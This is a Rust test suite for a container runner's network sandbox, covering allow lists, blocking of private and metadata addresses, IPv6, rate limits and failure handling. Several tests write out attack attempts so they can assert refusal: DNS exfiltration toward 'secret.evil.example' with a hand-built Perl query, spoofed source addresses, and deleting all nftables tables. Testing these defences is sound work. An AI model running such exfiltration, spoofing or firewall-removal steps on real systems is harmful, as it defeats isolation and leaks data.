//! Networks: what containers reach and what not, in a world of the test's own ([`crate::world`]).

use std::{
    io::{BufRead as _, BufReader},
    process::{Child, Stdio},
    time::{Duration, Instant},
};

use nix::sys::signal::Signal;

use crate::{
    binary::{PATIENCE, kill, program, wait},
    host::{Need, needs},
    world::{
        BULK, BULK_BYTES, FIRST, HOST, METADATA, PRIVATE, SECOND, World, ip, needs_world,
        with_world,
    },
};

/// Probes `targets` from a container; each must print what is beside it.
#[track_caller]
fn check(world: &World, network: &str, targets: &[(&str, u16, &str)]) {
    let probes: Vec<String> =
        targets.iter().map(|(host, port, _)| format!("probe {host} {port}")).collect();
    let expect: Vec<&str> = targets.iter().map(|(.., expect)| *expect).collect();
    let ended = world.script(network, &probes.join("\n")).expect(0);
    let found: Vec<&str> = ended.stdout.lines().collect();
    assert_eq!(found, expect, "network {network}, targets {targets:?}\n{}", ended.stderr);
}

#[test]
fn none_reaches_nothing() {
    needs_world!();
    with_world(|world| {
        let refused = [(FIRST, 80), (PRIVATE, 80), (METADATA, 80), (HOST, 8080)];
        check(world, "none", &refused.map(|(host, port)| (host, port, "refused")));
        assert!(world.asked.names().is_empty());
    });
}

/// A1.18: the internet, but neither this host, nor private networks, nor metadata.
#[test]
fn full_reaches_the_internet_and_nothing_near() {
    needs_world!();
    with_world(|world| {
        check(
            world,
            "full",
            &[
                (FIRST, 80, "world"),
                (SECOND, 443, "world"),
                ("listed.example", 80, "world"),
                (PRIVATE, 80, "refused"),
                ("private.example", 80, "refused"),
                (METADATA, 80, "refused"),
                (HOST, 8080, "refused"),
                // The host's end of the link, as the container sees it.
                ("$(ip -4 route show default | cut -d' ' -f3)", 8080, "refused"),
                ("127.0.0.1", 8080, "refused"),
            ],
        );
    });
}

/// What is listed by address is reached at that port, private and host addresses included.
#[test]
fn allow_by_address() {
    needs_world!();
    with_world(|world| {
        let list = format!("198.51.100.0/24:443,{PRIVATE}:80,{HOST}:8080");
        check(
            world,
            &list,
            &[
                (SECOND, 443, "world"),
                (SECOND, 80, "refused"),
                (FIRST, 443, "refused"),
                (PRIVATE, 80, "world"),
                (PRIVATE, 443, "refused"),
                (METADATA, 80, "refused"),
                (HOST, 8080, "host"),
            ],
        );
    });
}

/// A1.19: a listed name opens its addresses at its port; nothing else of them, and no other name.
#[test]
fn allow_by_name() {
    needs_world!();
    with_world(|world| {
        check(
            world,
            "listed.example:443,*.wild.example:80",
            &[
                // An address is nothing by itself: it is the name that is listed.
                (SECOND, 443, "refused"),
                ("listed.example", 443, "world"),
                (SECOND, 443, "world"),
                ("listed.example", 80, "refused"),
                ("a.b.wild.example", 80, "world"),
                ("wild.example", 80, "refused"),
                ("other.example", 443, "refused"),
                (FIRST, 443, "refused"),
            ],
        );
    });
}

/// A1.19: whoever answers for a listed name cannot lead a container to private hosts.
#[test]
fn a_name_that_resolves_to_a_private_address_opens_nothing() {
    needs_world!();
    with_world(|world| {
        check(world, "private.example:80", &[("private.example", 80, "refused")]);
        let list = format!("private.example:80,{PRIVATE}:80");
        check(world, &list, &[("private.example", 80, "world")]);
    });
}

/// A1.19: no question leaves for a name that is not listed, or of a kind that could carry words,
/// and no other server can be asked.
#[test]
fn names_carry_nothing_out() {
    needs_world!(Need::Program("perl"));
    with_world(|world| {
        let script = r#"
            probe secret.evil.example 80
            perl -MSocket -e '
                for my $server ("127.0.0.53", "192.0.2.53") {
                    for my $name ("txt.listed.example", "listed.example") {
                        socket(my $s, PF_INET, SOCK_DGRAM, 0) or die;
                        my $q = join "", map { chr(length) . $_ } split /\./, $name;
                        my $m = pack("nnnnnn", 7, 0x100, 1, 0, 0, 0) . $q . "\0" . pack("nn", 16, 1);
                        send($s, $m, 0, sockaddr_in(53, inet_aton($server)));
                        my $r = ""; vec(my $v = "", fileno($s), 1) = 1;
                        my $got = select($v, undef, undef, 2) ? recv($s, $r, 512, 0) : undef;
                        print "$server $name ", (defined $got && length $r ? "answered " . (unpack("n4", $r))[3] : "refused"), "\n";
                    }
                }'
            for word in a b c; do probe $word.evil.example 443; done"#;
        let ended = world.script("listed.example:443", script).expect(0);
        assert_eq!(
            ended.stdout,
            "refused\n127.0.0.53 txt.listed.example answered 0\n\
             127.0.0.53 listed.example answered 0\n192.0.2.53 txt.listed.example refused\n\
             192.0.2.53 listed.example refused\nrefused\nrefused\nrefused\n",
            "{}",
            ended.stderr
        );
        assert_eq!(world.asked.names(), Vec::<String>::new(), "what left this host");
    });
}

/// What was refused is told, by the name it was asked for.
#[test]
fn refusals_are_reported() {
    needs_world!();
    with_world(|world| {
        let list = "listed.example:443";
        let script = format!(
            "for i in 1 2 3; do probe listed.example 80; done; probe {FIRST} 22; \
             probe other.example 443; exit 7"
        );
        let ended = world.script(list, &script).expect(7);
        for sentence in [
            "tried 3 times to reach listed.example:80, not in the allow list",
            "tried once to reach 192.0.2.10:22, not in the allow list",
            "to reach other.example, not in the allow list",
        ] {
            assert!(ended.stderr.contains(sentence), "{sentence}\n{}", ended.text());
        }
    });
}

/// Learning prints a list with which the same command passes.
#[test]
fn learning_finds_the_list() {
    needs_world!();
    with_world(|world| {
        let script = format!("probe listed.example 443; probe {FIRST} 80");
        let ended = world.script("learn", &script).expect(0);
        let list = "192.0.2.10:80,listed.example:443";
        let sentence = format!("it needs `--network {list}`");
        assert!(ended.stderr.contains(&sentence), "{}", ended.text());
        assert_eq!(world.script(list, &script).expect(0).stdout, "world\nworld\n");
    });
}

/// There is no way out by IPv6, with any network.
#[test]
fn ipv6_is_off() {
    needs_world!();
    with_world(|world| {
        for network in ["none", "full", "listed.example:443"] {
            let script = "ip -6 addr show dev eth0 2>/dev/null; ip -6 route show default; \
                          probe 2001:db8::1 80; probe fe80::1%eth0 80";
            let ended = world.script(network, script).expect(0);
            assert_eq!(ended.stdout, "refused\nrefused\n", "{network}");
        }
        let ended = world.script("[2001:db8::/32]:443", "true").expect(125);
        assert!(ended.stderr.contains("IPv6"), "{}", ended.text());
    });
}

/// A name that has an address of each family is reached by the one that there is a way to.
#[test]
fn names_with_both_families() {
    needs_world!();
    with_world(|world| {
        let script =
            "probe both.example 443; getent ahosts both.example | cut -d' ' -f 1 | sort -u";
        for network in ["full", "both.example:443"] {
            let ended = world.script(network, script).expect(0);
            assert_eq!(ended.stdout, "world\n198.51.100.5\n", "{network}");
        }
    });
}

/// A started container that has printed its first line, its address.
pub(crate) fn standing(world: &World, network: &str, script: &str) -> (Child, String) {
    let script = format!("ip -4 -o addr show dev eth0 | sed 's/.*inet //;s,/.*,,'; {script}");
    let mut child = world.start(network, &script);
    let address = first_line(&mut child);
    (child, address)
}

/// A container with this network that stays until its input ends.
fn standing_for_input(world: &World, network: &str) -> Child {
    let script = "echo up; read end; exit 7";
    let mut command =
        world.command(&["exec", "host", "-i", "--network", network, "--", "bash", "-c", script]);
    let mut child = command.stdin(Stdio::piped()).spawn().expect("start cofferdam");
    assert_eq!(first_line(&mut child), "up");
    child
}

fn first_line(child: &mut Child) -> String {
    let mut line = String::new();
    let stdout = child.stdout.as_mut().expect("a pipe");
    BufReader::new(stdout).read_line(&mut line).expect("the first line");
    line.trim().to_owned()
}

/// Waits until the runner says that its containers have lost the network; what it said.
fn await_loss(child: &mut Child) -> String {
    let mut said = String::new();
    let mut stderr = BufReader::new(child.stderr.as_mut().expect("a pipe"));
    while !said.contains("cannot reach the network any more") {
        assert_ne!(stderr.read_line(&mut said).expect("a line"), 0, "it ended: {said}");
    }
    said
}

/// The process id of a container's init, on the host.
pub(crate) fn init_of(child: &Child) -> u32 {
    let below = |pid: u32| -> Vec<u32> {
        let path = format!("/proc/{pid}/task/{pid}/children");
        let list = std::fs::read_to_string(path).expect("children");
        list.split_whitespace().map(|pid| pid.parse().expect("a number")).collect()
    };
    let spawner = below(child.id());
    *below(*spawner.first().expect("a spawner")).first().expect("an init")
}

/// Without root and without a program for it, an error says what to install.
#[test]
fn nothing_carries_packets() {
    needs!(
        Need::User,
        Need::Networks,
        Need::Containers,
        Need::Without("pasta"),
        Need::Without("slirp4netns")
    );
    with_world(|world| {
        let ended = world.script("full", "true").expect(125);
        let sentence = "install the package `passt` or `slirp4netns`";
        assert!(ended.stderr.contains(sentence), "{}", ended.text());
        world.script("none", "true").expect(0);
    });
}

/// Without root, what carries the packets may end: the command that fails for that hears why.
#[test]
fn a_carrier_that_ends_is_named() {
    needs!(Need::User, Need::Networks, Need::Containers, Need::Carrier);
    with_world(|world| {
        let mut child = standing_for_input(world, "full");
        let spawner = *crate::residue::children(child.id()).first().expect("a spawner");
        let name = |pid: &u32| std::fs::read_to_string(format!("/proc/{pid}/comm"));
        let carries = |pid: &u32| {
            let name = name(pid).unwrap_or_default();
            ["pasta", "passt", "slirp4netns"].iter().any(|it| name.starts_with(it))
        };
        let carrier = crate::residue::children(spawner).into_iter().find(carries);
        kill(carrier.expect("a carrier"), Signal::SIGKILL);
        await_loss(&mut child);
        drop(child.stdin.take());
        let ended = wait(child).expect(7);
        let told = ["the command lost its network before its end", "which carries their packets"];
        assert!(told.iter().all(|words| ended.stderr.contains(words)), "{}", ended.text());
    });
}

/// Without root, the host's addresses are kept from containers by a list. One that cannot be put on it
/// closes the way out, and that is said.
#[test]
fn an_address_that_cannot_be_noted_closes_the_way_out() {
    needs!(Need::User, Need::Networks, Need::Containers, Need::Carrier, Need::Program("nft"));
    with_world(|world| {
        let mut child = standing_for_input(world, "full");
        let spawner = *crate::residue::children(child.id()).first().expect("a spawner");
        let inside = |script: &str| in_network_of(&keeper_below(spawner), script);
        let is_up = || {
            inside("ip -o link").lines().any(|link| link.contains(": up0:") && link.contains(",UP"))
        };
        assert!(is_up(), "{}", inside("ip -o link"));
        inside(
            "nft list tables | while read -r _ family name; do nft delete table $family $name; done",
        );
        ip(&["addr add 192.0.2.99/32 dev up0"]);
        let said = await_loss(&mut child);
        assert!(said.contains("cannot be kept from them"), "{said}");
        assert!(!is_up(), "it is still open");
        drop(child.stdin.take());
        // Without the filter, what it did cannot be told either.
        wait(child).expect(70).says(&["the use of the network"]);
    });
}

/// Without root, the process that makes networks may end: whoever asks for one then hears so, as a
/// fault of the host, and a run with it ends like any other.
#[test]
fn a_keeper_that_ends_is_named() {
    needs!(Need::User, Need::Networks, Need::Containers, Need::Carrier);
    with_world(|world| {
        let project = tempfile::tempdir().expect("a directory");
        let shared = project.path().join("shared");
        std::fs::create_dir(&shared).expect("a directory");
        let mount = format!("{}:/shared", shared.display());
        let pipeline = "jobs: { first: { network: full, steps: [{ run: 'until test -e /shared/go; do sleep 0.1; done' }] }, \
                        second: { network: full, needs: [first], steps: [{ run: 'true' }] } }";
        let path = crate::binary::file(project.path(), "cofferdam.yml", pipeline);
        let path = path.to_str().expect("a path");
        let out = project.path().join("out").display().to_string();
        let child =
            world.command(&["run", path, "--out", &out, "--mount", &mount]).spawn().expect("start");
        let deadline = Instant::now() + PATIENCE;
        let keeper = loop {
            assert!(Instant::now() < deadline, "no keeper");
            let below = crate::residue::children;
            let spawner = below(child.id()).first().copied().unwrap_or_default();
            // The first job stands, and what it runs.
            let stands = below(spawner).into_iter().any(|init| !below(init).is_empty());
            match find_keeper(spawner) {
                Some(keeper) if stands => break keeper,
                _ => std::thread::sleep(Duration::from_millis(20)),
            }
        };
        kill(keeper, Signal::SIGKILL);
        crate::binary::file(&shared, "go", "");
        wait(child).expect(70).says(&["second", "the process for it has ended"]);
    });
}

fn find_keeper(spawner: u32) -> Option<u32> {
    let name = |pid: &u32| std::fs::read_to_string(format!("/proc/{pid}/comm"));
    let children = crate::residue::children(spawner).into_iter();
    children.into_iter().find(|pid| name(pid).is_ok_and(|name| name.trim() == "cofferdam-net"))
}

fn keeper_below(spawner: u32) -> String {
    find_keeper(spawner).expect("a keeper").to_string()
}

/// What a script says in the network namespace of a process of this user's.
fn in_network_of(process: &str, script: &str) -> String {
    let output = program("nsenter")
        .args(["--target", process, "--user", "--net", "--preserve-credentials", "--"])
        .args(["sh", "-c", script])
        .output()
        .expect("run nsenter");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// A1.18: two containers cannot reach each other, even where all private addresses are listed.
#[test]
fn containers_do_not_reach_each_other() {
    needs_world!(Need::Program("perl"));
    with_world(|world| {
        let listen = "perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0); \
                      bind(S, sockaddr_in(80, INADDR_ANY)) or die; listen(S, 5); \
                      while (accept(C, S)) { print C \"other\\n\"; close C }' & \
                      until : < /dev/tcp/127.0.0.1/80; do sleep 0.1; done 2>/dev/null; \
                      probe 127.0.0.1 80; sleep 1000";
        let list = "10.0.0.0/8:80,172.16.0.0/12:80,192.168.0.0/16:80";
        let (mut child, address) = standing(world, list, listen);
        let mut line = String::new();
        BufReader::new(child.stdout.as_mut().expect("a pipe")).read_line(&mut line).expect("line");
        assert_eq!(line, "other\n", "its own way to itself is open");
        for network in [list, "full"] {
            let ended = world.script(network, &format!("probe {address} 80")).expect(0);
            assert!(["refused\n", "lost\n"].contains(&ended.stdout.as_str()), "{}", ended.stdout);
        }
        kill(child.id(), Signal::SIGTERM);
        wait(child);
    });
}

/// Packets with a source address that is not the container's go nowhere.
#[test]
fn forged_sources_are_dropped() {
    needs_world!(Need::Program("nsenter"));
    with_world(|world| {
        let (child, address) = standing(world, "full", "sleep 1000");
        let init = init_of(&child).to_string();
        // Root of the host does in the container's namespace what the container cannot.
        let inside = |command: &str| {
            let output = program("nsenter")
                .args(["--net", "--target", &init, "--", "bash", "-c", command])
                .output()
                .expect("run nsenter");
            String::from_utf8_lossy(&output.stdout).into_owned()
        };
        let probe = |patience: u32| {
            format!("timeout {patience} bash -c 'cat < /dev/tcp/{FIRST}/80' || echo nothing")
        };
        assert_eq!(inside(&probe(60)), "world\n", "from {address}");
        let forged = format!(
            "ip addr add 192.0.2.77/32 dev eth0 && \
             ip route replace default via $(ip -4 route show default | cut -d' ' -f3) \
             src 192.0.2.77 dev eth0 && {}",
            probe(2)
        );
        assert_eq!(inside(&forged), "nothing\n");
        kill(child.id(), Signal::SIGTERM);
        wait(child);
    });
}

/// The rate limit holds in both directions, within a wide margin.
#[test]
fn bandwidth() {
    needs_world!();
    with_world(|world| {
        let (sends, takes) = BULK;
        let list = format!("{FIRST}:{sends},{FIRST}:{takes}");
        let scripts = [
            (format!("head -c {BULK_BYTES} < /dev/tcp/{FIRST}/{sends} | wc -c"), "1048576\n"),
            (
                format!(
                    "exec 3<>/dev/tcp/{FIRST}/{takes}; head -c {BULK_BYTES} /dev/zero >&3; cat <&3"
                ),
                "taken\n",
            ),
        ];
        for (script, expect) in scripts {
            let command = ["--bandwidth", "4Mbit", "--", "bash", "-c", &script];
            let arguments = [&["exec", "host", "--network", &list][..], &command].concat();
            let ended = wait(world.command(&arguments).spawn().expect("start")).expect(0);
            assert_eq!(ended.stdout, expect);
            // A mebibyte takes 2.1 s at 4 Mbit/s, less what may go at once.
            assert!(ended.took > Duration::from_millis(1500), "{script}: {:?}", ended.took);
        }
    });
}
